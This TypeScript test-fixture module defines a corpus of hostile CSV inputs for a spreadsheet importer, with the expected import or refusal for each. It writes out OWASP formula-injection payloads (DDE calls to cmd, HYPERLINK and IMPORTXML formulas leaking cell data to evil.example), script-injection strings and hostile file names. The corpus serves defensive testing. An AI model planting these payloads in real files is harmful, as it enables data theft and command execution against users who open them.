/**
 * The hostile and odd CSV corpus: files an attacker or an unlucky user hands the import, each
 * with the outcome the product owes them. Small cases are committed under
 * test/fixtures/hostile/ (bytes that editors and git would "fix", so they are files, not
 * strings); large ones are generated in memory on demand and never committed.
 *
 * Shared by test/unit/quality/hostile-corpus.test.ts (parser + writer into the preview
 * workbook) and the browser tests (the real pane): keep it free of jest and of src/ imports
 * beyond types, so either can load it.
 */
import { readFileSync } from "fs";
import { join } from "path";
import type { ColumnType, CsvOptions, Encoding, RefusalCode } from "../../src/csv";
import type { CellValue } from "../../src/excel/values";
import { repoRoot } from "./paths";

export const HOSTILE_DIR = join(repoRoot, "test", "fixtures", "hostile");

export interface ImportedExpectation {
  readonly outcome: "imported";
  readonly encoding: Encoding;
  /** What the pane must tell the user about the encoding, when it is not plain UTF-8. */
  readonly note?: RegExp;
  readonly headers: readonly string[];
  readonly rows: number;
  /** Cells of the new sheet as [sheet row, column, value]; row 0 is the header row. */
  readonly cells: ReadonlyArray<readonly [number, number, CellValue]>;
  /** Each pattern must match one of the result's warnings. */
  readonly warnings?: readonly RegExp[];
}

export interface RefusedExpectation {
  readonly outcome: "refused";
  readonly code: RefusalCode;
  /** The message must name the problem and where it is. */
  readonly message: RegExp;
  readonly row?: number;
  readonly column?: number;
  readonly line?: number;
}

export type Expectation = ImportedExpectation | RefusedExpectation;

export interface HostileCase {
  readonly name: string;
  /** One line for the QUALITY.md table. */
  readonly what: string;
  /**
   * "small": a few KB at most, cheap enough for a browser test (a committed file when `file`
   * is set, else generated: write bytes() to a temp file to upload it); "large": megabytes,
   * generated in memory, checked at the refusal stage or in Node only.
   */
  readonly size: "small" | "large";
  /** For small cases: the committed file, absolute. */
  readonly file?: string;
  /** The file name the user picked (also feeds safeSheetName). */
  readonly fileName: string;
  /** The bytes of the file; large cases build them on each call (keep the result, not the case). */
  bytes(): Uint8Array;
  /** Choices the user made in the pane before importing (e.g. forcing a column's type). */
  readonly options?: CsvOptions;
  readonly expected: Expectation;
}

const fixture = (file: string): Pick<HostileCase, "size" | "file" | "fileName" | "bytes"> => ({
  size: "small",
  file: join(HOSTILE_DIR, file),
  fileName: file,
  bytes: () => new Uint8Array(readFileSync(join(HOSTILE_DIR, file))),
});

/** Text is UTF-8 encoded; bytes are taken as they are. */
const generated = (
  fileName: string,
  make: () => string | Uint8Array,
): Pick<HostileCase, "size" | "fileName" | "bytes"> => ({
  size: "large",
  fileName,
  bytes: () => {
    const made = make();
    return typeof made === "string" ? new TextEncoder().encode(made) : made;
  },
});

/** UTF-16 little-endian code units, no byte order mark. */
function utf16le(text: string): Uint8Array {
  const bytes = new Uint8Array(text.length * 2);
  for (let i = 0; i < text.length; i++) {
    bytes[2 * i] = text.charCodeAt(i) & 0xff;
    bytes[2 * i + 1] = text.charCodeAt(i) >> 8;
  }
  return bytes;
}

export const DDE = "=cmd|' /C calc'!A0";
export const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1&B1,"Click for details")';
export const MIB = 1024 * 1024;
export const MANY_COLUMNS = 20_000;
export const MANY_ROWS = 1_100_000;
export const WIDE_COLUMNS = 8_000;

/** The OWASP payloads in one column; rotated through by the flood case. */
const OWASP_PAYLOADS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  DDE,
  HYPERLINK,
  "\t=1+1",
  "\r=1+1",
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  "-2+3+cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
  "=+AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A",
];

const csvField = (s: string): string => (/[",\r\n\t]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s);

const forced = (...types: Array<ColumnType | null>): CsvOptions => ({ columns: types });

const UTF16_BYTE_ORDERS = { "utf-16le": "little-endian", "utf-16be": "big-endian" } as const;

/** The same two-row file in UTF-16 of either byte order, without a byte order mark to say so. */
function utf16WithoutBom(encoding: keyof typeof UTF16_BYTE_ORDERS): HostileCase {
  const order = UTF16_BYTE_ORDERS[encoding];
  const name = `${encoding.replace("-", "")}-no-bom`;
  return {
    name,
    what: `UTF-16 ${order} without a byte order mark`,
    ...fixture(`${name}.csv`),
    expected: {
      outcome: "imported",
      encoding,
      note: new RegExp(`UTF-16 ${order}: the file has no byte order mark`),
      headers: ["element", "share"],
      rows: 2,
      cells: [
        [1, 0, "Neodymium"],
        [1, 1, 0.9],
        [2, 1, 0.99],
      ],
    },
  };
}

export const hostileCorpus: readonly HostileCase[] = [
  {
    name: "owasp-injection",
    what: "OWASP CSV-injection payloads: cells starting with = + - @ tab CR; DDE, HYPERLINK exfiltration, IMPORTXML, obfuscated",
    ...fixture("owasp-injection.csv"),
    expected: {
      outcome: "imported",
      encoding: "utf-8",
      headers: ["id", "payload", "kind"],
      rows: 12,
      cells: OWASP_PAYLOADS.map((p, i) => [i + 1, 1, p] as const),
    },
  },
  {
    name: "injection-in-typed-columns",
    what: "Formula-like headers; payloads in columns the user forced to number, date and boolean",
    ...fixture("injection-in-typed-column.csv"),
    options: forced(null, null, "number", "date", "boolean"),
    expected: {
      outcome: "imported",
      encoding: "utf-8",
      headers: [DDE, "@label", "amount", "when", "ok"],
      rows: 5,
      cells: [
        [0, 0, DDE],
        [0, 1, "@label"],
        [1, 2, 10],
        [2, 2, "=SUM(C2:C3)"],
        [3, 2, -3],
        [4, 2, "+cmd|' /C calc'!A0"],
        [2, 3, "=1+1"],
        [3, 3, "-2024-01-02"],
        [4, 4, "@TRUE"],
        [5, 4, "-1"],
        [1, 4, true],
      ],
      warnings: [/"amount" holds numbers, but 2 cells do not \(rows 3, 5\): kept as text/],
    },
  },
  {
    name: "html-payloads",
    what: 'HTML/script payloads in headers and cells: <script>, <img onerror>, "><svg onload>, table escape, javascript: URL, iframe srcdoc',
    ...fixture("html-payloads.csv"),
    expected: {
      outcome: "imported",
      encoding: "utf-8",
      headers: ["<b>name</b>", "payload"],
      rows: 8,
      cells: [
        [0, 0, "<b>name</b>"],
        [1, 1, "<script>alert(1)</script>"],
        [2, 1, "<img src=x onerror=alert(1)>"],
        [3, 1, '"><svg onload=alert(1)>'],
        [4, 1, "</td></tr></table><script>alert(document.domain)</script>"],
        [6, 1, '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>'],
      ],
    },
  },
  {
    name: "invalid-utf8",
    what: "Bytes that are not valid UTF-8 (0xE9, 0xFC, 0x80, 0x92): read as Windows-1252, and said",
    ...fixture("invalid-utf8.csv"),
    expected: {
      outcome: "imported",
      encoding: "windows-1252",
      note: /Windows-1252 .*not valid UTF-8 \(byte 0xE9 at offset 18\)/,
      headers: ["name", "city", "note"],
      rows: 2,
      cells: [
        [1, 0, "José"],
        [1, 1, "München"],
        [1, 2, "€5 ’n"],
      ],
      warnings: [/Read as Windows-1252 .*not valid UTF-8/],
    },
  },
  utf16WithoutBom("utf-16le"),
  utf16WithoutBom("utf-16be"),
  {
    name: "utf16le-no-bom-cjk",
    what: "UTF-16 little-endian without a byte order mark, mostly Chinese text (a known limit: not recognised as UTF-16)",
    ...generated("utf16le-no-bom-cjk.csv", () => utf16le(`element,share\r\n${"中国稀土，镝，铽，钕\r\n".repeat(20)}`)),
    size: "small",
    expected: { outcome: "refused", code: "binary", message: /NUL byte on line 1, character 2/, line: 1, column: 2 },
  },
  {
    name: "mixed-line-endings",
    what: "CRLF, LF and lone CR record ends in one file; CRLF and CR inside quoted fields kept",
    ...fixture("mixed-line-endings.csv"),
    expected: {
      outcome: "imported",
      encoding: "utf-8",
      headers: ["a", "b"],
      rows: 5,
      cells: [
        [1, 1, "crlf"],
        [2, 1, "lf"],
        [3, 1, "cr"],
        [4, 1, "quoted\r\nbreak"],
        [5, 1, "lone\rcr"],
        [5, 0, 5],
      ],
    },
  },
  {
    name: "nul-byte",
    what: "A NUL byte inside a cell",
    ...fixture("nul-byte.csv"),
    expected: { outcome: "refused", code: "binary", message: /NUL byte on line 3, character 3/, line: 3, column: 3 },
  },
  {
    name: "xlsx-renamed",
    what: "An Excel workbook (zip) renamed to .csv",
    ...fixture("xlsx-renamed.csv"),
    expected: {
      outcome: "refused",
      code: "binary",
      message: /not a text file \(it looks like a zip file, such as an Excel workbook \(\.xlsx\)\)/,
    },
  },
  {
    name: "unclosed-quote",
    what: "A quote that never closes",
    ...fixture("unclosed-quote.csv"),
    expected: {
      outcome: "refused",
      code: "unclosedQuote",
      message: /Row 2 has an unclosed quote \(line 2, column 2 \(B\)\)/,
      row: 2,
      column: 2,
      line: 2,
    },
  },
  {
    name: "empty",
    what: "A zero-byte file",
    ...fixture("empty.csv"),
    expected: { outcome: "refused", code: "empty", message: /^The file is empty\.$/ },
  },
  {
    name: "blank-lines-only",
    what: "Only line breaks (CRLF, CRLF, LF)",
    ...fixture("blank-lines-only.csv"),
    expected: { outcome: "refused", code: "empty", message: /no data: all 3 rows are blank/ },
  },
  {
    name: "header-only-injection",
    what: "Only a header row, every name a payload",
    ...generated("header-only-injection.csv", () => `${DDE},@SUM(1+1),"+cmd|' /C calc'!A0",-HYPERLINK("x")\n`),
    size: "small",
    expected: {
      outcome: "imported",
      encoding: "utf-8",
      headers: [DDE, "@SUM(1+1)", "+cmd|' /C calc'!A0", '-HYPERLINK("x")'],
      rows: 0,
      cells: [
        [0, 0, DDE],
        [0, 1, "@SUM(1+1)"],
        [0, 3, '-HYPERLINK("x")'],
      ],
    },
  },
  {
    name: "cell-at-limit",
    what: "One cell of exactly 32,767 characters (Excel's maximum)",
    ...generated("cell-at-limit.csv", () => `note\n${"x".repeat(32_767)}\n`),
    size: "small",
    expected: {
      outcome: "imported",
      encoding: "utf-8",
      headers: ["note"],
      rows: 1,
      cells: [[1, 0, "x".repeat(32_767)]],
    },
  },
  {
    name: "cell-over-limit",
    what: "One cell of 32,768 characters",
    ...generated("cell-over-limit.csv", () => `note\n${"x".repeat(32_768)}\n`),
    size: "small",
    expected: {
      outcome: "refused",
      code: "cellTooLong",
      message: /Row 2, column 1 \(A\) has 32,768 characters \(line 2\); an Excel cell holds at most 32,767/,
    },
  },
  {
    name: "field-10mb",
    what: "A single unquoted 10 MB field",
    ...generated("field-10mb.csv", () => `note\n${"x".repeat(10 * MIB)}\n`),
    expected: {
      outcome: "refused",
      code: "cellTooLong",
      message: /Row 2, column 1 \(A\) has 10,485,760 characters \(line 2\); an Excel cell holds at most 32,767/,
      row: 2,
      column: 1,
      line: 2,
    },
  },
  {
    name: "quoted-field-10mb",
    what: "A single quoted 10 MB field full of delimiters, line breaks and doubled quotes",
    // 8 characters a unit once unescaped: a , b , " CR LF ; the field starts on line 2.
    ...generated("quoted-field-10mb.csv", () => `id,note\n1,"${'a,b,"",\r\n'.repeat((10 * MIB) / 8)}"\n`),
    expected: {
      outcome: "refused",
      code: "cellTooLong",
      message: /Row 2, column 2 \(B\) has 10,485,760 characters \(line 2\); an Excel cell holds at most 32,767/,
      row: 2,
      column: 2,
      line: 2,
    },
  },
  {
    name: "columns-20000",
    what: "20,000 columns in every row",
    ...generated("columns-20000.csv", () => {
      const header = Array.from({ length: MANY_COLUMNS }, (_, i) => `c${i + 1}`).join(",");
      const row = Array.from({ length: MANY_COLUMNS }, (_, i) => String(i)).join(",");
      return `${header}\n${row}\n${row}\n`;
    }),
    expected: {
      outcome: "refused",
      code: "tooManyColumns",
      message: /Row 1 has data in column 20,000 \(line 1\); an Excel sheet has at most 16,384 columns/,
      row: 1,
      column: 20_000,
    },
  },
  {
    name: "trailing-empty-fields-20000",
    what: "20,000 fields a row, data only in the first 3 (trailing delimiters)",
    ...generated("trailing-empty-fields-20000.csv", () => {
      const pad = ",".repeat(MANY_COLUMNS - 3);
      return `a,b,c${pad}\n1,=1+1,x${pad}\n2,y,z${pad}\n`;
    }),
    expected: {
      outcome: "imported",
      encoding: "utf-8",
      headers: ["a", "b", "c"],
      rows: 2,
      cells: [
        [1, 1, "=1+1"],
        [2, 2, "z"],
      ],
      warnings: [/19,997 empty columns/],
    },
  },
  {
    name: "alternating-columns-8000",
    what: "8,000 columns alternating text and numbers, 2 rows (within Excel's limits)",
    ...generated("alternating-columns-8000.csv", () => {
      const row = (r: number): string =>
        Array.from({ length: WIDE_COLUMNS }, (_, i) => (i % 2 ? String(r * i) : `t${r}-${i}`)).join(",");
      return `${Array.from({ length: WIDE_COLUMNS }, (_, i) => `c${i + 1}`).join(",")}\n${row(1)}\n${row(2)}\n`;
    }),
    expected: {
      outcome: "imported",
      encoding: "utf-8",
      headers: Array.from({ length: WIDE_COLUMNS }, (_, i) => `c${i + 1}`),
      rows: 2,
      cells: [
        [1, 0, "t1-0"],
        [2, 7_999, 2 * 7_999],
        [2, 7_998, "t2-7998"],
      ],
    },
  },
  {
    name: "rows-1100000",
    what: "1,100,000 rows (Excel holds 1,048,576)",
    ...generated("rows-1100000.csv", () => {
      const lines = ["n"];
      for (let i = 1; i <= MANY_ROWS; i++) lines.push(String(i));
      return lines.join("\n") + "\n";
    }),
    expected: {
      outcome: "refused",
      code: "tooManyRows",
      message:
        /more rows than an Excel sheet holds \(1,048,576, counting the header row\): row 1,048,577 \(line 1,048,577\) would not fit/,
      row: 1_048_577,
      line: 1_048_577,
    },
  },
  {
    name: "injection-flood",
    what: "50,000 rows cycling through the OWASP payloads in a text column and a number column",
    ...generated("injection-flood.csv", () => injectionFlood(FLOOD_ROWS)),
    options: forced(null, "number", null),
    expected: {
      outcome: "imported",
      encoding: "utf-8",
      headers: ["id", "amount", "payload"],
      rows: 50_000,
      cells: [
        [1, 2, OWASP_PAYLOADS[0]],
        [5, 2, DDE],
        [49_998, 2, OWASP_PAYLOADS[49_997 % OWASP_PAYLOADS.length]],
        [3, 1, OWASP_PAYLOADS[1]],
        [2, 1, 2],
      ],
    },
  },
];

export const FLOOD_ROWS = 50_000;

/** Rows of id, amount (a number, or every third row a payload), payload. */
export function injectionFlood(rows: number): string {
  const lines = ["id,amount,payload"];
  for (let i = 1; i <= rows; i++) {
    const payload = OWASP_PAYLOADS[(i - 1) % OWASP_PAYLOADS.length];
    const amount = i % 3 === 0 ? OWASP_PAYLOADS[(i / 3) % OWASP_PAYLOADS.length] : String(i);
    lines.push(`${i},${csvField(amount)},${csvField(payload)}`);
  }
  return lines.join("\r\n") + "\r\n";
}

export const smallCases = (): HostileCase[] => hostileCorpus.filter((c) => c.size === "small");
export const hostileCase = (name: string): HostileCase => {
  const found = hostileCorpus.find((c) => c.name === name);
  if (!found) throw new Error(`No hostile case named ${name}`);
  return found;
};

/**
 * File names are input too: they become sheet names. Each must give a name Excel accepts and
 * that is new, whatever the workbook already holds ("Sheet1" exists in a new workbook).
 */
export const HOSTILE_FILE_NAMES: readonly string[] = [
  "Sheet1.csv",
  "SHEET1.CSV",
  "History.csv",
  `${DDE}.csv`,
  "<img src=x onerror=alert(1)>.csv",
  "'quoted'.csv",
  "a:b\\c/d?e*f[g]h.csv",
  "\u0000\u0007\t.csv",
  ".csv",
  "   .csv",
  `${"🦄".repeat(20)}.csv`,
  `${"x".repeat(300)}.csv`,
];
